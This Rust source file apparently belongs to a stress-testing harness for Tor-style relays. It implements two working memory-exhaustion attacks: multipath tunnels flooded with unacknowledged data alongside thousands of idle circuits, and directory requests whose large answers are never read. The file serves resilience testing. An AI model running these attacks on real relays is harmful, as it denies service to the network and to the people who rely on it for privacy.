//! Attacks by what a target holds: circuits, tunnels and answers.

use std::time::{Duration, Instant};

use anyhow::{Context, Result, ensure};
use rand_chacha::ChaCha12Rng;
use weft_cell::mtor_msg::{Multipath, SequenceNumber, Subdata};
use weft_cell::relay::MAX_DATA;
use weft_cell::relay_command::RelayCommand;
use weft_cell::relay_v1::MAX_STREAM_DATA;
use weft_cell::{Cell, ChanCmd, RelayCmd};

use super::circuit::{Circuit, INITIATOR, begin};
use super::circuits::CIRCUITS_OF_A_LINK;
use super::definition::Attack;
use super::microdescs;
use super::peer::Peer;
use super::probes::Want;
use super::scene::Scene;
use super::servers::Behaviour;
use super::target::Needs;

/// Links of each attack.
const LINKS: usize = 4;

pub(super) const YOUNG_MEMORY: Attack = Attack {
    name: "young-memory",
    what: "Idle circuits, and tunnels with copies, and with messages whose gaps are filled every 100 ms: memory \
           that a peer may try to keep young",
    bound: "four links with 12 tunnels and 20,000 circuits each",
    needs: Needs {
        little_memory: true,
        tunnels: true,
        ..Needs::EXIT
    },
    want: Want::Stream,
    destination: Some(Behaviour::Flood(1 << 20)),
    lead: Duration::from_secs(5),
    run: young_memory,
};

fn young_memory(scene: &Scene<'_>) -> Result<()> {
    const TUNNELS: u32 = 12;
    const IDLE: u32 = 200;
    const INTERVAL: Duration = Duration::from_millis(100);
    let to = begin(scene.destination()?);
    scene.again(|| {
        let mut links = Vec::new();
        for number in 0..LINKS {
            let mut peer = scene.relay(number)?;
            let mut tunnels = Vec::new();
            for id in 1..=TUNNELS {
                match tunnel(scene, &mut peer, id, &to) {
                    Ok(tunnel) => tunnels.push(tunnel),
                    Err(error) => {
                        scene.set_back(&error);
                        break;
                    }
                }
            }
            links.push((peer, tunnels));
        }
        let mut gap = 2;
        for first in (TUNNELS + 1..CIRCUITS_OF_A_LINK).step_by(IDLE as usize) {
            for (peer, tunnels) in &mut links {
                let mut cells = Vec::new();
                for circuit in tunnels {
                    let data = (RelayCommand::Data, [7; 400].as_slice());
                    let cell = subdata(circuit, gap, data, &mut peer.rng)?;
                    cells.extend_from_slice(cell.as_bytes());
                }
                for id in first..first + IDLE {
                    let create = Cell::new(INITIATOR | id, ChanCmd::CREATE_FAST);
                    cells.extend_from_slice(create.as_bytes());
                }
                scene.send_blindly(peer, &cells)?;
            }
            scene.did(IDLE.into());
            gap += 2;
            scene.pause(INTERVAL);
            if scene.is_over() {
                break;
            }
        }
        Ok(())
    });
    Ok(())
}

/// A tunnel of one leg. The target holds copies of a window's messages from a fast server, none of which is
/// acknowledged, and every other of as many of ours.
fn tunnel(scene: &Scene<'_>, peer: &mut Peer, id: u32, to: &[u8]) -> Result<Circuit> {
    const EARLY: u32 = 800;
    let mut circuit = Circuit::create_fast(peer, id)?;
    let secret = [7; 16];
    circuit.send(
        peer,
        RelayCommand::Multipath.wire(),
        0,
        &Multipath { secret }.encode(),
    )?;
    let deadline = Instant::now() + Duration::from_secs(1);
    let answer = circuit.next(peer, deadline)?;
    ensure!(
        answer.command == RelayCommand::MultipathAck.wire(),
        "the target answered MULTIPATH with {}",
        answer.command
    );
    let mut cells = Vec::new();
    let begin = subdata(&mut circuit, 1, (RelayCommand::Begin, to), &mut peer.rng)?;
    cells.extend_from_slice(begin.as_bytes());
    for number in 1..=EARLY {
        let data = (RelayCommand::Data, [7; 400].as_slice());
        let cell = subdata(&mut circuit, 1 + 2 * number, data, &mut peer.rng)?;
        cells.extend_from_slice(cell.as_bytes());
    }
    // Answers of the next tunnel must be read.
    scene.send(peer, &cells)?;
    Ok(circuit)
}

/// A message of stream 1 in a tunnel.
fn subdata(
    circuit: &mut Circuit,
    number: u32,
    (command, data): (RelayCommand, &[u8]),
    rng: &mut ChaCha12Rng,
) -> Result<Cell> {
    let mut buffer = [0; MAX_STREAM_DATA];
    let message = Subdata {
        sequence: SequenceNumber(number),
        command,
        data,
    };
    let message = message.encode(&mut buffer)?;
    circuit.cell(RelayCommand::Subdata.wire(), 1, message, rng)
}

pub(super) const UNREAD_ANSWERS: Attack = Attack {
    name: "unread-answers",
    what: "BEGIN_DIR and a request for 512 microdescriptors, 1 MiB, whose answers are not read",
    bound: "1,024 streams",
    needs: Needs {
        little_memory: true,
        bounded_memory: true,
        microdescs: true,
        ..Needs::RELAY
    },
    want: Want::Directory,
    destination: None,
    lead: Duration::from_secs(3),
    run: unread_answers,
};

fn unread_answers(scene: &Scene<'_>) -> Result<()> {
    const CIRCUITS: u32 = 16;
    const STREAMS: u16 = 16;
    let names: Vec<String> = microdescs::all().map(|(name, _)| name).collect();
    let codings = ["identity", "deflate", "x-zstd", "x-tor-lzma"];
    let requests = codings.map(|coding| {
        let names = names.join("-");
        format!("GET /tor/micro/d/{names} HTTP/1.0\r\nAccept-Encoding: {coding}\r\n\r\n")
    });
    scene.again(|| {
        let mut links = Vec::new();
        for number in 0..LINKS {
            let mut peer = scene.relay(number)?;
            let circuits = (1..=CIRCUITS)
                .map(|id| Circuit::create_fast(&mut peer, id))
                .collect::<Result<Vec<_>>>()?;
            links.push((peer, circuits));
        }
        for stream in 1..=STREAMS {
            let request = requests.get(usize::from(stream) % requests.len());
            let request = request.context("no request")?;
            for (peer, circuits) in &mut links {
                for circuit in circuits {
                    let begin = circuit.cell(RelayCmd::BEGIN_DIR, stream, &[], &mut peer.rng)?;
                    let mut cells = begin.as_bytes().to_vec();
                    for data in request.as_bytes().chunks(MAX_DATA) {
                        let cell = circuit.cell(RelayCmd::DATA, stream, data, &mut peer.rng)?;
                        cells.extend_from_slice(cell.as_bytes());
                    }
                    scene.send_blindly(peer, &cells)?;
                    scene.did(1);
                }
            }
            if scene.is_over() {
                return Ok(());
            }
        }
        scene.linger(links.iter_mut().map(|(peer, _)| peer).collect())
    });
    Ok(())
}
